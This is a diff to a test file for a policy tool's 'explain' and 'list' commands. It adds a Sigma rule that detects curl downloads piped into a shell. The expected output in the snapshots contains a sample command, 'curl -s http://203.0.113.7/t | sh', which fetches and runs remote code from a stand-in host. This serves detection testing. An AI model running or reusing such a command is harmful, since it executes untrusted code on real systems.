@@ -48,6 +48,27 @@ const RULES = `
   condition: sf.type = NF and sf.file.path exists
 `;
 
+const SIGMA_RULE = `title: A download
+id: r1
+logsource: { product: linux, category: network_connection }
+detection:
+  tool:
+    Image|endswith: [/curl, /SH]
+    CommandLine|contains|all:
+      - 'http'
+      - 203
+  shell:
+    - Image|expand|endswith: '/%shells%'
+    - Target|startswith: /tmp/
+  keywords: [nothing such, t | sh]
+  filter_odd:
+    Image: /x*y
+    Nothing: 1
+  filter_none: { User: null }
+  condition: tool and 1 of shell* and keywords and not (filter_odd or filter_none)
+level: high
+`;
+
 describe.concurrent("millrace policy check", () => {
   it("counts what there is", async ({ expect }) => {
     const { code, stdout, stderr } = await policy(["check", "examples/policies"]);
@@ -304,25 +325,52 @@ describe.concurrent("millrace policy explain", () => {
     `);
   });
 
-  it("shows a Sigma rule by what it comes to", async ({ expect }) => {
+  it("shows a Sigma rule as it was written, searches by their names, and finds it by its title", async ({ expect }) => {
     const cwd = folderOf("sigma-explain", {
-      "map.yaml": "fieldmappings:\n  Image: sf.proc.exe\n  CommandLine: sf.proc.cmdline\n",
-      "r.yaml":
-        "title: t\nid: r1\ndetection:\n  sel:\n    Image|endswith: /SH\n    CommandLine|contains: curl\n  ok:\n    Image: /x*y\n  condition: sel and not ok\nlevel: high\n",
+      "map.yaml":
+        "fieldmappings:\n  Image: sf.proc.exe\n  CommandLine: sf.proc.cmdline\n  Target: [sf.file.path, sf.file.newpath]\nplaceholders:\n  shells: [sh, bash]\n",
+      "r.yaml": SIGMA_RULE,
     });
-    const { stdout } = await policy(["explain", "r1", pod, "-p", "r.yaml", "-l", "sigma", "-c", "map.yaml"], cwd);
+    const { stdout } = await policy(["explain", "A download", pod, "-p", "r.yaml", "-l", "sigma", "-c", "map.yaml"], cwd);
     expect(stdout).toMatchInlineSnapshot(`
-      "r1 (high) r.yaml:9:14
+      "A download [r1] (high) r.yaml:18:14
       #12 PE EXEC by /bin/sh (pid 2231) at 2020-09-13T12:26:40.011000000Z
       matches
 
       ✓ and
-        ✓ sf.proc.exe endswith (any case) "/sh"   # sf.proc.exe: "/bin/sh"
-        ✓ sf.proc.cmdline contains (any case) "curl"   # sf.proc.cmdline: "/bin/sh -c curl -s http://203.0.113.7/t | sh"
+        ✓ tool (search)
+          ✓ and
+            ✓ Image|endswith: [/curl, /SH]   # sf.proc.exe: "/bin/sh"
+            ✓ CommandLine|contains|all: [http, 203]   # sf.proc.cmdline: "/bin/sh -c curl -s http://203.0.113.7/t | sh"
+        ✓ 1 of shell*
+          ✓ shell (search)
+            ✓ or
+              ✓ Image|expand|endswith: /%shells%   # sf.proc.exe: "/bin/sh"
+              ✗ Target|startswith: /tmp/   # sf.file.path: ""; sf.file.newpath: ""   (not asked)
+        ✓ keywords (search)
+          ✓ or
+            ✗ keyword nothing such   # none of 17 attributes
+            ✓ keyword t | sh   # sf.proc.args: "-c curl -s http://203.0.113.7/t | sh"
         ✓ not
-          ✗ sf.proc.exe is like (any case) "/x*y"   # sf.proc.exe: "/bin/sh"
+          ✗ or
+            ✗ filter_odd (search)
+              ✗ and
+                ✗ Image: /x*y   # sf.proc.exe: "/bin/sh"
+                ✗ Nothing: 1   # never true   (not asked)
+            ✗ filter_none (search)
+              ✗ User: null   # never true
       "
     `);
+    expect((await policy(["explain", "r1", pod, "-p", "r.yaml", "-l", "sigma", "-c", "map.yaml"], cwd)).stdout).toBe(stdout);
+    const strict = await policy(["explain", "r1", pod, "-p", "r.yaml", "-l", "sigma", "-c", "map.yaml", "--logsource", "strict", "-r", "2"], cwd);
+    expect(strict.stdout).toContain("does not match\n\n✗ prefilter [NF]   # sf.type: PE\n");
+    expect((await policy(["list", "r.yaml", "-l", "sigma", "-c", "map.yaml"], cwd)).stdout).toMatchInlineSnapshot(`
+      "KIND  NAME  TITLE       PRIORITY  TYPES           ENABLED  TAGS
+      rule  r1    A download  high      PE,NF,FF,FE,KE  yes
+      "
+    `);
+    const unknown = await policy(["explain", "A downlaod", pod, "-p", "r.yaml", "-l", "sigma"], cwd);
+    expect(unknown.stderr).toContain('error MILLRACE_POLICY_RULE: there is no rule "A downlaod"\n  hint: did you mean "A download"?');
   });
 });
 
@@ -491,7 +539,7 @@ tests:
       "a.test.yaml:2:1: error MILLRACE_POLICY_TEST: a test file has no key "policy"
           policy: [a.yaml]
           ^~~~~~
-        hint: its keys are policies, language, config, tests
+        hint: its keys are policies, language, config, logsource, tests
       a.test.yaml:6:9: error MILLRACE_POLICY_TEST: "proces" is nothing that can happen
                 - proces: sh
                   ^~~~~~
